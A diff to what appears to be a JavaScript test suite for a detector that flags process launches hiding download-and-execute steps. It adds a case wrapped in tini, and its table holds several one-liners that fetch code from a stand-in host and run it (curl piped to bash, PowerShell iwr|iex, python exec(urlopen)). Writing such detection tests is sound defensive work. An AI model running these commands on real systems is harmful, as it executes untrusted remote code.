@@ -18,6 +18,7 @@ describe('a launch that hides what it runs', () => {
     ['wget, then run by the address’ own name', run('bash', '-c', 'wget https://x.example/s.sh; chmod +x s.sh; ./s.sh'), 'downloaded-code /args/1'],
     ['iwr | iex', run('powershell', '-Command', 'iwr https://x.example/i.ps1 | iex'), 'downloaded-code /args/1'],
     ['iex (DownloadString)', run('pwsh', '-c', "iex ((New-Object Net.WebClient).DownloadString('https://x.example/i'))"), 'downloaded-code /args/1'],
+    ['through tini', run('tini', '--', 'bash', '-c', 'curl https://x.example/i | bash'), 'downloaded-code /args/3'],
     ['through wsl', run('wsl', 'bash', '-c', 'curl https://x.example/i | bash'), 'downloaded-code /args/2'],
     ['in a container', run('docker', 'run', '-i', '--rm', 'node:20', 'sh', '-c', 'curl https://x.example/i | sh'), 'downloaded-code /args/6'],
     ['exec(urlopen())', run('python', '-c', "import urllib.request as u; exec(u.urlopen('https://x.example/i').read())"), 'downloaded-code /args/1'],
